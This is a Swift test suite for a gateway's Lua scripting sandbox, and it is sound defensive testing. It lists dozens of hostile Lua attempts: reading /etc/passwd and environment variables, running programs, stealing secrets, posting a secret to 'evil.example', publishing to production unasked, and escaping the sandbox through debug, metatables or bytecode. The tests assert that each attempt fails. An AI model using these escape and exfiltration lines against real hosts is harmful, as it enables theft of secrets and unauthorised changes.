import Foundation
import GatewayTestSupport
import Testing

/// What a package that means harm tries, and meets.
@Suite(.timeLimit(.minutes(5))) struct HostilePackageTests {
  /// Each is the body of a function that gets a callback, a table and an error object of the script's; it must not
  /// succeed. The script has every right there is.
  static let attempts: [String: String] = [
    "reads a file": "return io.open('/etc/passwd'):read('a')",
    "loads a file": "return assert(loadfile or dofile)('/etc/passwd')",
    "reads a file by the module": "return apig.file.read('/etc/passwd')",
    "reads the script": "return apig.file.read 'script.lua'",
    "writes the script": "return apig.file.write('script.lua', '')",
    "grants itself something": "return apig.file.write('apig.lock', '')",
    "reads the environment": "return os.getenv('HOME')",
    "reads the environment by the module": "return apig.environ 'HOME'",
    "runs a program": "return os.execute('true')",
    "opens a secret": "return apig.secret 'token'",
    "sends to its own server": "return apig.http.get { url = 'https://evil.example/' }",
    "sends what it was given": "return apig.http.post { url = 'https://evil.example/', body = tostring(given.secret) }",
    "publishes elsewhere": "return apig.publish { api = 'pay-create', env = 'RELEASE' }",
    "publishes elsewhere by ID":
      "return apig.publish { api = 'pay-create', env_id = 'DEFAULT_ENVIRONMENT_RELEASE_ID' }",
    "publishes elsewhere in a batch":
      "return apig.batch { action = 'online', apis = { 'pay-create' }, env = 'RELEASE' }",
    "publishes elsewhere by a coroutine":
      "return coroutine.wrap(function() return apig.publish { api = 'pay-create', env = 'RELEASE' } end)()",
    "publishes elsewhere in a task":
      "return apig.parallel { function() return apig.publish { api = 'pay-create', env = 'RELEASE' } end }",
    "publishes elsewhere through a metamethod":
      "return setmetatable({}, { __index = function(_, k) return apig.publish { api = 'pay-create', env = k } end }).RELEASE",
    "takes offline": "return apig.offline { api = 'pay-create', env = 'STAGING' }",
    "exports": "return apig.export { group = 'payments', env = 'RELEASE', define = 'proxy' }",
    "changes a draft": "return apig.create_group { name = 'mine' }",
    "uses another gateway": "return apig.gateway('other'):apis {}",
    "finds the script's globals": "return assert(script_global)",
    "finds the script's apig through _G": "return assert(_G._G.script_apig)",
    "looks at the stack": "return debug.getinfo(1)",
    "takes upvalues": "return debug.getupvalue(callback, 1)",
    "takes an environment": "return assert(getfenv)(callback)",
    "takes the registry": "return debug.getregistry()",
    "takes the strings' metatable":
      "return getmetatable('').__index.rep and error('has none') or assert(getmetatable(''))",
    "takes a class's metatable": "return assert(getmetatable(given.record) or nil)",
    "uses the script's metatable": "return assert(getmetatable(given.bait))",
    "uses the error's metatable": "return assert(getmetatable(problem) or nil)",
    "takes the cause of an error": "return assert(problem.publish)",
    "forges a function": "return require('[packages]').call { number = 1 }",
    "answers for another": "return require('[packages]').answer_call(1, true, {}, 0)",
    "changes apig": "apig.publish = function() end return true",
    "changes the library": "string.format = function() end return true",
    "loads bytecode": "return assert(load(string.dump(function() end)))",
    "loads packages": "return package.loadlib('/lib/x86_64-linux-gnu/libc.so.6', '*')",
    "ends the run": "apig.exit 'ok' return true",
    "reads the parameters": "return apig.params { token = {} }",
    "requires the script's modules": "return require 'helper'",
    "requires a package it does not name": "return require 'acme.other'",
  ]

  private static let package = """
    local attempts = {
    %@
    }
    return {
      try = function(name, callback, given, problem)
        local passed, result = pcall(attempts[name], callback, given, problem)
        return passed and tostring(result) or nil, not passed and tostring(result) or nil
      end,
      -- What its caller's callback may do is its caller's business; it must not get more out of it than that.
      use = function(callback) return callback() end,
    }
    """

  private static let script = """
    script_global, script_apig = "mine", apig
    local hostile = require "acme.rotate"
    local token = apig.secret "token"
    local record = apig.apis { name = "pay-create" }[1]
    local given = {
      secret = token, record = record,
      bait = setmetatable({}, { __index = { publish = apig.publish } }),
    }
    local _, problem = pcall(apig.publish, {})
    local names = %@
    for _, name in ipairs(names) do
      local result, reason = hostile.try(name, function() return apig.run.id end, given, problem)
      print(name .. (result and ": SUCCEEDED " .. result or ": " .. reason))
    end
    """

  @Test(arguments: [["--trust-unsigned"], []])
  func everyAttemptIsRefused(_ flags: [String]) async throws {
    let names = Self.attempts.keys.sorted()
    let bodies = names.map { name in
      "[\"\(name)\"] = function(callback, given, problem) \(Self.attempts[name] ?? "") end,"
    }
    let package = Self.package.replacing("%@", with: bodies.joined(separator: "\n"))
    let script = Self.script.replacing(
      "%@", with: "{ " + names.map { "\"\($0)\"" }.joined(separator: ", ") + " }")
    try await RotateProject.with(permissions: ["read", "publish:STAGING"], ["init.lua": package]) { project in
      try await project.add()
      var command = project.command
      command.variables["APIG_SECRET_TOKEN"] = "xyzzy-secret"
      try command.write(script, to: "script.lua")
      try command.write("return 'helper'", to: "helper.lua")
      let state = "return table.concat(apig.history { api = 'pay-create' }:names(), ' ')"
      let before = try await command("-e", state)
      let granted = ["secret:*", "http:*", "file.read:*", "file.write:*", "environ:*"].flatMap { ["--allow", $0] }
      let run = try await command.run(["--no-input"] + granted + flags + ["script.lua"])
      #expect(run.status == 0, "\(run.messages)")
      let lines = run.output.split(separator: "\n").filter { line in names.contains { line.hasPrefix("\($0): ") } }
      #expect(lines.count == names.count, "\(run.output)")
      for line in lines { #expect(!line.contains(": SUCCEEDED "), "\(line)") }
      #expect(!run.output.contains("xyzzy-secret") && !run.messages.contains("xyzzy-secret"))
      let after = try await command("-e", state)
      #expect(after.output == before.output && before.status == 0, "\(before.messages)")
    }
  }

  @Test func aCallbackThatIsKeptIsStillItsOwners() async throws {
    let package = """
      local kept
      return {
        keep = function(callback) kept = callback end,
        use = function() return kept() end,
        own = function() return apig.secret "token" end,
      }
      """
    try await RotateProject.with(["init.lua": package]) { project in
      try await project.add()
      var command = project.command
      command.variables["APIG_SECRET_TOKEN"] = "xyzzy-secret"
      try command.write(
        """
        local hostile = require "acme.rotate"
        hostile.keep(function() return tostring(apig.secret "token") end)
        print(hostile.use())
        print(pcall(hostile.own))
        """, to: "script.lua")
      let run = try await command("--allow", "secret:token", "script.lua")
      #expect(run.status == 0, "\(run.messages)")
      #expect(run.output.hasPrefix("‹secret token›\nfalse\t"), "\(run.output)")
    }
  }

  @Test(arguments: [["--trust-unsigned"], []])
  func itGetsNoFurtherByWhatItHandsBack(_ flags: [String]) async throws {
    let package = """
      return {
        undo = function(callback)
          pcall(apig.with_rollback, function() callback() error("x", 0) end)
          return "fine"
        end,
        rename = function(secret) secret[1].name = "other" return { header = secret } end,
        forge = function(callback)
          local _, problem = pcall(apig.publish, {})
          problem.kind = "stale"
          error(problem, 0)
        end,
      }
      """
    try await RotateProject.with(["init.lua": package]) { project in
      try await project.add()
      var command = project.command
      command.variables["APIG_SECRET_TOKEN"] = "xyzzy-secret"
      command.variables["APIG_SECRET_OTHER"] = "plugh-secret"
      try command.write(
        """
        local hostile = require "acme.rotate"
        local before = #apig.history { api = "pay-create", env = "RELEASE" }
        hostile.undo(function() apig.publish { api = "pay-create", env = "RELEASE" } end)
        local history = apig.history { api = "pay-create", env = "RELEASE" }
        print(#history - before, history[1].status)
        local passed, problem = pcall(hostile.rename, apig.secret "token")
        print(passed, tostring(problem))
        """, to: "script.lua")
      let run = try await command.run(["--no-input", "--allow", "secret:*"] + flags + ["script.lua"])
      #expect(run.status == 0, "\(run.messages)")
      let lines = run.output.split(separator: "\n")
      #expect(lines.first == "1\t1" && lines.last?.hasPrefix("false\t") == true, "\(run.output)")
      let forged = try await command.run(flags + ["-e", "require('acme.rotate').forge()"])
      #expect(forged.status == 1, "\(forged.messages)")
    }
  }
}
